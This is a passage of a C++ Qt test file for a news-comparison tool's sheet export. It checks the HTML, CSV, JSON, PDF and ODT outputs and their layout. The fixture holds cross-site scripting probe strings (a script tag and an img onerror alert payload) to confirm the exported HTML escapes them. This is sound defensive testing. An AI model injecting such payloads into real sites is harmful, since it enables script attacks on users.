// SPDX-FileCopyrightText: 2026 The Parallax authors
// SPDX-License-Identifier: GPL-3.0-or-later
// Comparison sheets: every format is well formed and carries what the analysis
// holds, hostile article text stays text, and failed exports keep old files.
#include "analysisbuilder.h"
#include "analyzer.h"
#include "conflictvalue.h"
#include "corpusloader.h"
#include "highlightingrepository.h"
#include "sheetexport.h"
#include "sheetwriter.h"

#include <KSyntaxHighlighting/Repository>

#include <QAbstractTextDocumentLayout>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>
#include <QTextFrame>
#include <QTextLayout>
#include <QTextTable>
#include <QXmlStreamReader>

#include <cmath>

namespace {

const QString hostileScript = QStringLiteral("<script>alert(1)</script>");
const QString hostileImage = QStringLiteral("\"><img src=x onerror=alert(1)>");

TextRange rangeOf(const QString &text, const QString &piece)
{
    const qsizetype at = text.indexOf(piece);
    Q_ASSERT(at >= 0);
    return {at, at + piece.size()};
}

ClaimMember member(const Corpus &corpus, int article, const QString &piece, const QString &value = {})
{
    ClaimMember m;
    m.article = article;
    m.range = rangeOf(corpus.articles[article].text, piece);
    m.text = piece;
    m.value = value;
    return m;
}

Mention mention(const Corpus &corpus, int article, const QString &piece)
{
    return {article, rangeOf(corpus.articles[article].text, piece), piece};
}

// Three outlets on one storm, with every part of a sheet present: shared,
// conflicting (a count and a quote), unique and attributed claims, and entities
// spelt differently. `hostile` puts markup into the text and the metadata.
AnalysisPtr fixture(bool hostile = false)
{
    auto corpus = std::make_shared<Corpus>();
    corpus->title = hostile ? QStringLiteral("Storm %1").arg(hostileScript) : QStringLiteral("Storm on the coast");
    const QStringList texts = {
        QStringLiteral("Storm hits coast\nBy Jane Roe\nThe storm killed 4 people on Monday, officials said. "
                       "The mayor said \"we will rebuild every house\" after the storm. Schools stay closed.\n"),
        QStringLiteral("Coastal storm\r\nThe storm killed 40 people on Monday, the agency reported. "
                       "Mayor Jon Smyth said \"we will rebuild each house\" soon. Power is back, \"quoted\", she said.\n"),
        QStringLiteral("Storm damage\nOfficials said the storm killed 4 people. Jon Smith thanked volunteers.\n")
            + (hostile ? hostileScript + QStringLiteral(" and ") + hostileImage + QStringLiteral(" & more\n") : QString()),
    };
    const QStringList outlets = {QStringLiteral("Daily, \"News\""), QStringLiteral("Coast Post"),
                                 hostile ? hostileImage : QStringLiteral("Wire")};
    for (int i = 0; i < texts.size(); ++i) {
        Article a;
        a.id = QStringLiteral("a%1").arg(i);
        a.filePath = QStringLiteral("/corpus/a%1.txt").arg(i);
        a.format = QStringLiteral("txt");
        a.text = texts[i];
        a.title = texts[i].section(u'\n', 0, 0).trimmed();
        a.outlet = outlets[i];
        a.byline = i == 0 ? QStringLiteral("Jane Roe") : QString();
        a.published = QDate(2024, 5, 13 + i);
        corpus->articles.append(a);
    }
    auto analysis = std::make_shared<Analysis>();
    analysis->corpus = corpus;
    analysis->sentences.resize(corpus->articles.size());
    const Corpus &c = *corpus;

    analysis->entities = {
        makeEntity(QStringLiteral("e1"), EntityType::Person, QStringLiteral("Jon Smith"),
                   {mention(c, 1, QStringLiteral("Jon Smyth")), mention(c, 2, QStringLiteral("Jon Smith"))}),
        makeEntity(QStringLiteral("e2"), EntityType::Date, QStringLiteral("Monday, 13 May 2024"),
                   {mention(c, 0, QStringLiteral("Monday")), mention(c, 1, QStringLiteral("Monday"))}, QStringLiteral("2024-05-13")),
        makeEntity(QStringLiteral("e3"), EntityType::Place, QStringLiteral("coast"), {mention(c, 0, QStringLiteral("coast"))}),
    };
    if (hostile)
        analysis->entities.append(
            makeEntity(QStringLiteral("e4"), EntityType::Organization, hostileScript, {mention(c, 2, hostileScript)}));

    const Claim count = makeClaim(QStringLiteral("c1"), ClaimKind::Conflict,
                                  {member(c, 0, QStringLiteral("The storm killed 4 people on Monday"), QStringLiteral("4")),
                                   member(c, 1, QStringLiteral("The storm killed 40 people on Monday"), QStringLiteral("40"))},
                                  QStringLiteral("count"), QStringLiteral("4 against 40 dead"));
    Claim shared = makeClaim(QStringLiteral("c2"), ClaimKind::Shared,
                             {member(c, 0, QStringLiteral("The storm killed 4 people on Monday, officials said.")),
                              member(c, 2, QStringLiteral("Officials said the storm killed 4 people."))});
    shared.attribution = QStringLiteral("officials");
    Claim quote =
        makeClaim(QStringLiteral("c3"), ClaimKind::Conflict,
                  {member(c, 0, QStringLiteral("we will rebuild every house")), member(c, 1, QStringLiteral("we will rebuild each house"))},
                  QStringLiteral("quote"));
    quote.attribution = QStringLiteral("the mayor");
    const Claim unique = makeClaim(QStringLiteral("c4"), ClaimKind::Unique, {member(c, 0, QStringLiteral("Schools stay closed."))});
    const Claim unique2 =
        makeClaim(QStringLiteral("c5"), ClaimKind::Unique, {member(c, 1, QStringLiteral("Power is back, \"quoted\", she said."))});
    analysis->claims = {count, shared, quote, unique, unique2};
    if (hostile) {
        Claim h =
            makeClaim(QStringLiteral("c\"6<"), ClaimKind::Unique, {member(c, 2, hostileScript + QStringLiteral(" and ") + hostileImage)});
        h.attribution = hostileImage;
        analysis->claims.append(h);
    }
    return analysis;
}

// RFC 4180 reader: the test's own, so that the writer is checked against an independent parser.
QList<QStringList> parseCsv(const QString &text, bool *ok)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    *ok = true;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text[i + 1] == u'"') {
                    field += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                field += c;
            }
        } else if (c == u'"') {
            if (!field.isEmpty())
                *ok = false; // a quote inside an unquoted field
            quoted = true;
        } else if (c == u',') {
            row.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row.append(field);
            field.clear();
            rows.append(row);
            row.clear();
            ++i;
        } else if (c == u'\n' || c == u'\r') {
            *ok = false; // a bare line break outside quotes
        } else {
            field += c;
        }
    }
    if (quoted || !field.isEmpty() || !row.isEmpty())
        *ok = false; // every record ends with CRLF
    return rows;
}

// Parses the whole document; returns the element names met and the text of each
// <div class="text">, or an error.
struct ParsedHtml
{
    QString error;
    QSet<QString> elements;
    QStringList articleTexts;
    int claimRows = 0;
    QString allText;
};

ParsedHtml parseHtml(const QByteArray &html)
{
    ParsedHtml out;
    QXmlStreamReader xml(html);
    int textDepth = 0;
    bool inClaims = false;
    while (!xml.atEnd()) {
        xml.readNext();
        if (xml.isStartElement()) {
            out.elements.insert(xml.name().toString());
            const QString cls = xml.attributes().value(u"class").toString();
            if (textDepth > 0)
                ++textDepth;
            else if (xml.name() == u"div" && cls == u"text") {
                textDepth = 1;
                out.articleTexts.append(QString());
            }
            if (xml.name() == u"table" && cls == u"claims")
                inClaims = true;
            if (inClaims && xml.name() == u"tr")
                ++out.claimRows;
        } else if (xml.isEndElement()) {
            if (textDepth > 0)
                --textDepth;
            if (xml.name() == u"table")
                inClaims = false;
        } else if (xml.isCharacters()) {
            out.allText += xml.text();
            if (textDepth > 0)
                out.articleTexts.last() += xml.text();
        }
    }
    if (xml.hasError())
        out.error = QStringLiteral("%1 at line %2").arg(xml.errorString()).arg(xml.lineNumber());
    return out;
}

int pdfPageCount(const QByteArray &pdf)
{
    static const QRegularExpression page(QStringLiteral("/Type\\s*/Page(?![a-zA-Z])"));
    return int(QString::fromLatin1(pdf).count(page));
}

} // namespace

class TestExport : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void conflictValueAsWritten_data();
    void conflictValueAsWritten();
    void pdfRowsAreNeverCut_data();
    void pdfRowsAreNeverCut();
    void attributionsGroupedBySpeaker();
    void pdfCellsBreakBetweenWords_data();
    void pdfCellsBreakBetweenWords();
    void initTestCase();
    void wellFormed_data();
    void wellFormed();
    void hostileTextStaysText_data();
    void hostileTextStaysText();
    void options_data();
    void options();
    void quoteDiff();
    void csvInjection_data();
    void csvInjection();
    void csvNumericColumns_data();
    void csvNumericColumns();
    void failedExportKeepsOldFile_data();
    void failedExportKeepsOldFile();
    void cancelStopsTheWriter_data();
    void cancelStopsTheWriter();
    void odtReportsProgress();
    void wideSheetListsSourcesInRows_data();
    void wideSheetListsSourcesInRows();
    void manySourcesListedInBoundedTables();
    void commandLine_data();
    void commandLine();
    void odtIsReproducible();

private:
    void entitiesListedInBoundedTables(const Sheet &sheet, const QTextDocument &doc);
    AnalysisPtr analysis(const QString &name) const { return name == u"seed" ? m_seed : name == u"wide" ? m_wide : fixture(); }

    AnalysisPtr m_seed;
    AnalysisPtr m_wide; // more sources than a printed sheet gives columns
    std::unique_ptr<KSyntaxHighlighting::Repository> m_repository;
};

void TestExport::initTestCase()
{
    m_repository = createHighlightingRepository();
    auto corpus = std::make_shared<Corpus>(loadCorpus({QStringLiteral(PARALLAX_SOURCE_DIR "/corpus/putin-xi-2024")}));
    QCOMPARE(corpus->articles.size(), 5);
    m_seed = analyzeCorpus(corpus);
    QVERIFY(m_seed);
    // The seed's five reports three times over, as fifteen outlets: every claim is stated by
    // at least three sources, and the printed sheet has more sources than columns.
    auto wide = std::make_shared<Corpus>(*corpus);
    for (int copy = 2; copy <= 3; ++copy) {
        for (int i = 0; i < corpus->articles.size(); ++i) {
            Article a = corpus->articles[i];
            a.id += QStringLiteral("-%1").arg(copy);
            a.outlet += QStringLiteral(" %1").arg(copy);
            a.name.clear();
            wide->articles.append(a);
        }
    }
    QVERIFY(wide->articles.size() > kPrintedSourceColumns);
    m_wide = analyzeCorpus(wide);
    QVERIFY(m_wide);
}

void TestExport::wellFormed_data()
{
    QTest::addColumn<QString>("corpus");
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("minPages");
    QTest::addColumn<int>("maxPages");
    for (const QString &corpus : {QStringLiteral("fixture"), QStringLiteral("seed")}) {
        const bool seed = corpus == u"seed";
        for (const QString &format :
             {QStringLiteral("html"), QStringLiteral("md"), QStringLiteral("csv-claims"), QStringLiteral("csv-entities"),
              QStringLiteral("csv-sources"), QStringLiteral("json"), QStringLiteral("odt")})
            QTest::addRow("%s/%s", qPrintable(corpus), qPrintable(format)) << corpus << format << 0 << 0;
        // The fixture fits on a few pages; the seed sheet is its tables plus five articles, each from a new page.
        QTest::addRow("%s/pdf", qPrintable(corpus)) << corpus << QStringLiteral("pdf") << (seed ? 7 : 4) << (seed ? 60 : 8);
        QTest::addRow("%s/pdf-landscape", qPrintable(corpus))
            << corpus << QStringLiteral("pdf-landscape") << (seed ? 7 : 4) << (seed ? 60 : 8);
    }
}

void TestExport::wellFormed()
{
    QFETCH(QString, corpus);
    QFETCH(QString, format);
    QFETCH(int, minPages);
    QFETCH(int, maxPages);
    const AnalysisPtr a = analysis(corpus);
    const Corpus &c = *a->corpus;
    const Sheet sheet = buildSheet(*a);
    QCOMPARE(sheet.sources.size(), c.articles.size());

    QTemporaryDir dir;
    const QString target = dir.filePath(QStringLiteral("sheet"));
    ExportSettings settings;
    settings.format = *sheetFormatFromKey(format.section(u'-', 0, 0));
    settings.landscape = format.endsWith(u"landscape");
    settings.byteOrderMark = format == u"csv-entities";
    settings.csvTable = format == u"csv-entities" ? CsvTable::Entities : format == u"csv-sources" ? CsvTable::Sources : CsvTable::Claims;
    const ExportResult result = exportSheet(*a, settings, target, *m_repository);
    QVERIFY2(result.ok, qPrintable(result.error));
    QCOMPARE(result.files, QStringList{target});
    QFile file(target);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QVERIFY(!bytes.isEmpty());

    if (settings.format == SheetFormat::Html) {
        const ParsedHtml html = parseHtml(bytes);
        QVERIFY2(html.error.isEmpty(), qPrintable(html.error));
        QVERIFY(!html.elements.contains(QStringLiteral("script")));
        QVERIFY(html.elements.contains(QStringLiteral("style")));
        // Nothing is fetched: no sources, no links out, no CSS resources.
        QVERIFY(!bytes.contains(" src="));
        QVERIFY(!bytes.contains("href=\"http"));
        QVERIFY(!bytes.contains("url("));
        QVERIFY(!bytes.contains("@import"));
        // Every article's text comes back character for character (carriage returns aside).
        QCOMPARE(html.articleTexts.size(), c.articles.size());
        for (int i = 0; i < c.articles.size(); ++i)
            QCOMPARE(html.articleTexts[i], QString(c.articles[i].text).remove(u'\r'));
        QCOMPARE(html.claimRows, sheet.compared.isEmpty() ? 0 : int(sheet.compared.size()) + 1);
        if (corpus == u"fixture") {
            // Spans from the news prose definition and from the claim layers.
            QVERIFY(bytes.contains("class=\"k-conflict\"") || bytes.contains(" k-conflict\""));
            QVERIFY(bytes.contains("k-value"));
            QVERIFY(QString::fromUtf8(bytes).contains(QRegularExpression(QStringLiteral("class=\"f\\d+"))));
            QVERIFY(html.allText.contains(QStringLiteral("Jon Smyth")));
        }
    } else if (settings.format == SheetFormat::Markdown) {
        const QString md = QString::fromUtf8(bytes);
        QVERIFY(md.startsWith(u"# "));
        for (const SheetSource &s : sheet.sources)
            QVERIFY2(QString(md).remove(u'\\').contains(s.label), qPrintable(s.label));
        // Every table row has as many cells as its header.
        int expected = -1;
        for (const QString &line : md.split(u'\n')) {
            if (!line.startsWith(u'|')) {
                expected = -1;
                continue;
            }
            const int cells = int(line.count(QRegularExpression(QStringLiteral("(?<!\\\\)\\|")))) - 1;
            if (expected < 0)
                expected = cells;
            QCOMPARE(cells, expected);
        }
        QCOMPARE(md.count(QStringLiteral("\n### ")) >= 1, !sheet.entities.isEmpty() || sheet.uniqueCount() > 0);
    } else if (settings.format == SheetFormat::Csv) {
        QCOMPARE(bytes.startsWith("\xEF\xBB\xBF"), settings.byteOrderMark);
        bool ok = false;
        const QList<QStringList> rows = parseCsv(QString::fromUtf8(settings.byteOrderMark ? bytes.mid(3) : bytes), &ok);
        QVERIFY(ok);
        QCOMPARE(rows, sheetCsvTable(sheet, settings.csvTable));
        const qsizetype expectedRows = settings.csvTable == CsvTable::Claims     ? a->claims.size()
                                       : settings.csvTable == CsvTable::Entities ? a->entities.size()
                                                                                 : c.articles.size();
        QCOMPARE(rows.size(), expectedRows + 1);
        for (const QStringList &row : rows)
            QCOMPARE(row.size(), rows.first().size());
        if (corpus == u"fixture" && settings.csvTable == CsvTable::Claims) {
            // The count conflict: each source's wording and value in its own columns, the third silent.
            const QStringList c1 = *std::find_if(rows.begin(), rows.end(), [](const QStringList &r) { return r.first() == u"c1"; });
            QCOMPARE(c1.mid(0, 3), (QStringList{QStringLiteral("c1"), QStringLiteral("conflict"), QStringLiteral("count")}));
            QCOMPARE(c1.mid(6),
                     (QStringList{QStringLiteral("The storm killed 4 people on Monday"), QStringLiteral("4"),
                                  QStringLiteral("The storm killed 40 people on Monday"), QStringLiteral("40"), QString(), QString()}));
            QCOMPARE(rows.first()[6], QStringLiteral("Daily, \"News\""));
        }
    } else if (settings.format == SheetFormat::Json) {
        QJsonParseError error;
        const QJsonObject root = QJsonDocument::fromJson(bytes, &error).object();
        QCOMPARE(error.error, QJsonParseError::NoError);
        QCOMPARE(root.value(u"format").toString(), QStringLiteral("parallax-analysis/1"));
        QHash<QString, QString> texts;
        for (const QJsonValue &v : root.value(u"articles").toArray())
            texts.insert(v.toObject().value(u"id").toString(), c.articles[c.indexOf(v.toObject().value(u"id").toString())].text);
        QCOMPARE(texts.size(), c.articles.size());
        auto checkSpan = [&texts](const QJsonObject &o) {
            const QString text = texts.value(o.value(u"article").toString());
            const int start = o.value(u"start").toInt(-1);
            const int end = o.value(u"end").toInt(-1);
            return !text.isEmpty() && start >= 0 && end > start && end <= text.size()
                   && text.mid(start, end - start) == o.value(u"text").toString();
        };
        const QJsonArray entities = root.value(u"entities").toArray();
        QCOMPARE(entities.size(), a->entities.size());
        for (const QJsonValue &e : entities) {
            QVERIFY(QStringList({QStringLiteral("person"), QStringLiteral("organization"), QStringLiteral("place"), QStringLiteral("date")})
                        .contains(e.toObject().value(u"type").toString()));
            for (const QJsonValue &m : e.toObject().value(u"mentions").toArray())
                QVERIFY(checkSpan(m.toObject()));
        }
        const QJsonArray claims = root.value(u"claims").toArray();
        QCOMPARE(claims.size(), a->claims.size());
        for (const QJsonValue &cl : claims) {
            const QString kind = cl.toObject().value(u"kind").toString();
            QVERIFY(QStringList({QStringLiteral("shared"), QStringLiteral("conflict"), QStringLiteral("unique")}).contains(kind));
            QSet<QString> articles;
            for (const QJsonValue &m : cl.toObject().value(u"members").toArray()) {
                QVERIFY(checkSpan(m.toObject()));
                articles.insert(m.toObject().value(u"article").toString());
            }
            QVERIFY(articles.size() >= (kind == u"unique" ? 1 : 2));
        }
    } else if (settings.format == SheetFormat::Pdf) {
        QVERIFY(bytes.startsWith("%PDF-"));
        QVERIFY(bytes.trimmed().endsWith("%%EOF"));
        const int pages = pdfPageCount(bytes);
        QVERIFY2(pages >= minPages && pages <= maxPages, qPrintable(QString::number(pages)));
        // Each article starts a page, after at least one page of tables.
        QVERIFY(pages >= int(c.articles.size()) + 1);
    } else if (settings.format == SheetFormat::Odt) {
        QVERIFY(bytes.startsWith("PK\x03\x04"));
        QVERIFY(bytes.contains("mimetypeapplication/vnd.oasis.opendocument.text"));
        QVERIFY(bytes.contains("content.xml"));
        QVERIFY(bytes.contains("PK\x05\x06")); // the zip's central directory end
    }
}

void TestExport::hostileTextStaysText_data()
{
    QTest::addColumn<bool>("withRepository");
    QTest::addColumn<bool>("articleTexts");
    QTest::addRow("highlighted") << true << true;
    QTest::addRow("plain") << false << true;
    QTest::addRow("tables only") << true << false;
}

void TestExport::hostileTextStaysText()
{
    QFETCH(bool, withRepository);
    QFETCH(bool, articleTexts);
    const AnalysisPtr a = fixture(true);
    SheetOptions options;
    options.articleTexts = articleTexts;
    const QByteArray html = sheetToHtml(buildSheet(*a, options), withRepository ? m_repository.get() : nullptr);
    const ParsedHtml parsed = parseHtml(html);
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QVERIFY(!parsed.elements.contains(QStringLiteral("script")));
    QVERIFY(!parsed.elements.contains(QStringLiteral("img")));
    QVERIFY(!html.contains("<script"));
    QVERIFY(!html.contains("<img"));
    // The markup comes out as the text it was.
    QVERIFY(parsed.allText.contains(hostileScript));
    QVERIFY(parsed.allText.contains(hostileImage));
    if (articleTexts)
        QCOMPARE(parsed.articleTexts.last(), a->corpus->articles.last().text);

    const QString md = sheetToMarkdown(buildSheet(*a));
    QVERIFY(!md.contains(QStringLiteral("<script")));
    QVERIFY(!md.contains(QStringLiteral("<img")));
}

void TestExport::options_data()
{
    QTest::addColumn<QString>("kinds");
    QTest::addColumn<QString>("types");
    QTest::addColumn<QString>("sources");
    QTest::addColumn<int>("compared");
    QTest::addColumn<int>("unique");
    QTest::addColumn<int>("entities");
    QTest::addColumn<int>("columns");
    QTest::addRow("everything") << QString() << QString() << QString() << 3 << 2 << 3 << 3;
    QTest::addRow("conflicts") << QStringLiteral("conflict") << QString() << QString() << 2 << 0 << 3 << 3;
    QTest::addRow("unique, dates") << QStringLiteral("unique") << QStringLiteral("date") << QString() << 0 << 2 << 1 << 3;
    QTest::addRow("people, places") << QString() << QStringLiteral("person,place") << QString() << 3 << 2 << 2 << 3;
    // Without a1 the conflicts lose their second source; the shared claim keeps a0 and a2.
    QTest::addRow("two sources") << QString() << QString() << QStringLiteral("a0,Wire") << 1 << 1 << 3 << 2;
    QTest::addRow("one source") << QString() << QString() << QStringLiteral("a2") << 0 << 0 << 1 << 1;
}

void TestExport::options()
{
    QFETCH(QString, kinds);
    QFETCH(QString, types);
    QFETCH(QString, sources);
    QFETCH(int, compared);
    QFETCH(int, unique);
    QFETCH(int, entities);
    QFETCH(int, columns);
    const AnalysisPtr a = fixture();
    SheetOptions options;
    QString bad;
    QVERIFY(parseClaimKinds(kinds, &options.kinds, &bad));
    QVERIFY(parseEntityTypes(types, &options.types, &bad));
    QVERIFY(parseSources(*a->corpus, sources, &options.sources, &bad));
    const Sheet sheet = buildSheet(*a, options);
    QCOMPARE(sheet.compared.size(), compared);
    QCOMPARE(sheet.uniqueCount(), unique);
    QCOMPARE(sheet.entities.size(), entities);
    QCOMPARE(sheet.sources.size(), columns);
    for (const SheetClaimRow &row : sheet.compared) {
        QVERIFY(row.sourceCount() >= 2);
        for (qsizetype i = 0; i < row.stated.size(); ++i) {
            QVERIFY(row.stated[i].source >= 0 && row.stated[i].source < columns);
            QVERIFY(i == 0 || row.stated[i - 1].source < row.stated[i].source);
            QVERIFY(!row.stated[i].silent());
            QCOMPARE(&row.cell(row.stated[i].source), &row.stated[i]);
        }
    }
    // The filtered analysis indexes its own, smaller corpus consistently.
    for (const Claim &c : sheet.analysis->claims) {
        for (const ClaimMember &m : c.members)
            QCOMPARE(sheet.analysis->corpus->articles[m.article].text.mid(m.range.start, m.range.length()), m.text);
    }
    for (const SheetEntityRow &e : sheet.entities) {
        int total = 0;
        for (int n : e.counts)
            total += n;
        QCOMPARE(total, e.total);
    }
}

void TestExport::quoteDiff()
{
    const Sheet sheet = buildSheet(*fixture());
    const auto row = std::find_if(sheet.compared.begin(), sheet.compared.end(), [](const SheetClaimRow &r) { return r.id == u"c3"; });
    QVERIFY(row != sheet.compared.end());
    const SheetWording &left = row->cell(0).wordings.first();
    const SheetWording &right = row->cell(1).wordings.first();
    QCOMPARE(left.differing.size(), 1);
    QCOMPARE(left.text.mid(left.differing[0].start, left.differing[0].length()), QStringLiteral("every"));
    QCOMPARE(right.text.mid(right.differing[0].start, right.differing[0].length()), QStringLiteral("each"));
    // Spellings per source, and "silent" where a source never names the entity.
    const auto smith = std::find_if(sheet.entities.begin(), sheet.entities.end(), [](const SheetEntityRow &e) { return e.id == u"e1"; });
    QCOMPARE(smith->spellings[1], QStringList{QStringLiteral("Jon Smyth")});
    QCOMPARE(smith->spellings[2], QStringList{QStringLiteral("Jon Smith")});
    QCOMPARE(smith->counts[0], 0);
    // Attributions: who each source cites.
    QCOMPARE(sheet.attributions.size(), 2);
    const auto mayor = std::find_if(sheet.attributions.begin(), sheet.attributions.end(),
                                    [](const SheetAttributionRow &r) { return r.who == u"the mayor"; });
    QCOMPARE(mayor->counts, (QList<int>{1, 1, 0}));
}

// One speaker named four ways in one report is one row of the attributions
// table, named as the analysis resolved them, with the forms as written; a
// pronoun with no one named before it, and a name no entity holds, stay as written;
// "He" is the governor the report follows, not the engineer named in passing just before.
void TestExport::attributionsGroupedBySpeaker()
{
    auto corpus = std::make_shared<Corpus>();
    Article article;
    article.id = QStringLiteral("a");
    article.outlet = QStringLiteral("Valley Courier");
    article.text = QStringLiteral("She said the levee held. State Governor Ann Smith visited the dam on Friday, the council said. "
                                  "The dam was built by the engineer Tom Berg in 1961. He said the water would fall by Sunday. Gov. Smith "
                                  "added that crews were ready. "
                                  "Schools will open on Monday, Smith said. Officials said the road stays closed.");
    corpus->articles = {article};
    const QString &text = corpus->articles[0].text;
    auto analysis = std::make_shared<Analysis>();
    analysis->corpus = corpus;
    QList<Sentence> sentences;
    for (qsizetype start = 0; start < text.size();) {
        const qsizetype end = text.indexOf(QStringLiteral(". "), start);
        const qsizetype stop = end < 0 ? text.size() : end + 1;
        sentences.append({{start, stop}, false});
        start = stop + 1;
    }
    analysis->sentences = {sentences};
    Entity smith = makeEntity(QStringLiteral("e1"), EntityType::Person, QStringLiteral("Ann Smith"));
    for (qsizetype at = text.indexOf(QStringLiteral("Smith")); at >= 0; at = text.indexOf(QStringLiteral("Smith"), at + 1)) {
        const bool full = text.mid(at - 4, 4) == u"Ann ";
        smith.mentions.append({0, {full ? at - 4 : at, at + 5}, full ? QStringLiteral("Ann Smith") : QStringLiteral("Smith")});
    }
    const QString bergName = QStringLiteral("Tom Berg");
    const qsizetype bergAt = text.indexOf(bergName);
    const Entity berg = makeEntity(QStringLiteral("e3"), EntityType::Person, bergName, {{0, {bergAt, bergAt + bergName.size()}, bergName}});
    const Entity council = makeEntity(QStringLiteral("e2"), EntityType::Organization, QStringLiteral("the council"));
    analysis->entities = {smith, council, berg};
    const QList<std::pair<QString, QString>> attributed = {
        {QStringLiteral("She said the levee held"), QStringLiteral("She")},
        {QStringLiteral("State Governor Ann Smith visited the dam on Friday"), QStringLiteral("State Governor Ann Smith")},
        {QStringLiteral("the water would fall by Sunday"), QStringLiteral("He")},
        {QStringLiteral("crews were ready"), QStringLiteral("Gov. Smith")},
        {QStringLiteral("Schools will open on Monday"), QStringLiteral("Smith")},
        {QStringLiteral("the road stays closed"), QStringLiteral("Officials")}};
    for (const auto &[piece, who] : attributed) {
        Claim c = makeClaim(QStringLiteral("c%1").arg(analysis->claims.size() + 1), ClaimKind::Unique, {member(*corpus, 0, piece)});
        c.attribution = who;
        analysis->claims.append(c);
    }
    const Sheet sheet = buildSheet(*analysis);
    QStringList rows;
    for (const SheetAttributionRow &r : sheet.attributions)
        rows << QStringLiteral("%1 %2 [%3]").arg(r.who).arg(r.total).arg(r.asWritten.join(QStringLiteral(", ")));
    QCOMPARE(rows, (QStringList{QStringLiteral("Ann Smith 4 [State Governor Ann Smith, He, Gov. Smith, Smith]"), QStringLiteral("She 1 []"),
                                QStringLiteral("Officials 1 []")}));
}

// Where a conflict member's value is written, for the bold red of the columns
// and the sheets: the value as a word of its own, or the words that state it.
void TestExport::conflictValueAsWritten_data()
{
    QTest::addColumn<QString>("sentence");
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("written"); // empty: not spelled out

    QTest::addRow("digits") << "Officials said 40 people were rescued." << "40" << "40";
    QTest::addRow("a word, after a date holding its digit") << "On Nov 17, seven miners were trapped." << "7" << "seven";
    QTest::addRow("a word in capitals") << "FIVE rescuers went down the shaft." << "5" << "FIVE";
    QTest::addRow("two words") << "Twenty-five pumps ran all night." << "25" << "Twenty-five";
    QTest::addRow("inside a longer number it is not") << "The 140 workers left at noon." << "40" << "";
    QTest::addRow("an approximate figure") << "About 300 firefighters fought the blaze." << "~300" << "300";
    QTest::addRow("a sum with its sign, written in words") << "Ahlberg will pay 8.2 billion euros in cash." << "\u20ac8.2 billion"
                                                           << "8.2 billion";
    QTest::addRow("a sum as written") << "The deal is worth $44 billion in all." << "$44 billion" << "$44 billion";
    QTest::addRow("words as written") << "He spoke after officially taking office." << "officially taking office"
                                      << "officially taking office";
}

void TestExport::conflictValueAsWritten()
{
    QFETCH(QString, sentence);
    QFETCH(QString, value);
    QFETCH(QString, written);
    const QString text = QStringLiteral("An unrelated 7 before. ") + sentence + QStringLiteral(" And 5 after.");
    const qsizetype start = text.indexOf(sentence);
    ClaimMember member{0, {start, start + sentence.size()}, sentence, value};
    const TextRange found = writtenValue(text, member);
    QCOMPARE(text.mid(found.start, found.length()), written);
}

// Printed pages cut no table row: a row that fits on a page starts a new one
// under the header's copy (Qt would lay it across the boundary). Invented
// claims of varied length, on pages of two sizes.
void TestExport::pdfRowsAreNeverCut_data()
{
    QTest::addColumn<QSizeF>("page");
    QTest::addRow("tall pages") << QSizeF(500, 900);
    QTest::addRow("short pages") << QSizeF(700, 420);
}

void TestExport::pdfRowsAreNeverCut()
{
    QFETCH(QSizeF, page);
    auto corpus = std::make_shared<Corpus>();
    auto analysis = std::make_shared<Analysis>();
    for (int a = 0; a < 3; ++a) {
        Article article;
        article.id = QString::number(a);
        article.outlet = QStringLiteral("Outlet %1").arg(a);
        for (int c = 0; c < 40; ++c)
            article.text += QStringLiteral("Claim %1 of outlet %2 says%3 that the harbour reopened. ")
                                .arg(c)
                                .arg(a)
                                .arg(QStringLiteral(" again and again").repeated((c * 7 + a * 3) % 11));
        corpus->articles.append(article);
    }
    analysis->corpus = corpus;
    analysis->sentences.resize(3);
    for (int c = 0; c < 40; ++c) {
        Claim claim;
        claim.id = QStringLiteral("c%1").arg(c);
        claim.kind = ClaimKind::Shared;
        for (int a = 0; a < 3; ++a)
            claim.members.append(member(*corpus, a, QStringLiteral("Claim %1 of outlet %2 says").arg(c).arg(a)));
        for (ClaimMember &m : claim.members) {
            m.range.end = corpus->articles[m.article].text.indexOf(QStringLiteral(". "), m.range.start);
            m.text = corpus->articles[m.article].text.mid(m.range.start, m.range.length());
        }
        analysis->claims.append(claim);
    }
    const Sheet sheet = buildSheet(*analysis);
    QImage device(10, 10, QImage::Format_RGB32);
    const std::unique_ptr<QTextDocument> doc = sheetToPages(sheet, nullptr, &device, page);
    QAbstractTextDocumentLayout *layout = doc->documentLayout();
    int rows = 0, parts = 0;
    for (QTextFrame *frame : doc->rootFrame()->childFrames()) {
        auto *table = qobject_cast<QTextTable *>(frame);
        if (!table)
            continue;
        ++parts;
        for (int r = 1; r < table->rows(); ++r, ++rows) {
            qreal top = 1e12, bottom = -1e12;
            for (int c = 0; c < table->columns(); ++c) {
                top = qMin(top, layout->blockBoundingRect(table->cellAt(r, c).firstCursorPosition().block()).top());
                bottom = qMax(bottom, layout->blockBoundingRect(table->cellAt(r, c).lastCursorPosition().block()).bottom());
            }
            QVERIFY2(
                std::floor(top / page.height()) == std::floor((bottom - 0.5) / page.height()),
                qPrintable(QStringLiteral("row %1 of a table: %2..%3 on pages %4 high").arg(r).arg(top).arg(bottom).arg(page.height())));
        }
    }
    QCOMPARE(rows, 40 + 3);                                  // the claims and the sources
    QVERIFY2(parts > 3, qPrintable(QString::number(parts))); // the claims table was divided
}

// Words in a narrow claims cell are wrapped between words, never inside one, also when the
// page glued two of them with a no-break space (a pair wider than the column was broken
// inside the second word: "perceive d").
void TestExport::pdfCellsBreakBetweenWords_data()
{
    QTest::addColumn<QChar>("space");
    QTest::addRow("space") << QChar(u' ');
    QTest::addRow("no-break space") << QChar(0x00a0);
    QTest::addRow("narrow no-break space") << QChar(0x202f);
}

void TestExport::pdfCellsBreakBetweenWords()
{
    QFETCH(QChar, space);
    auto corpus = std::make_shared<Corpus>();
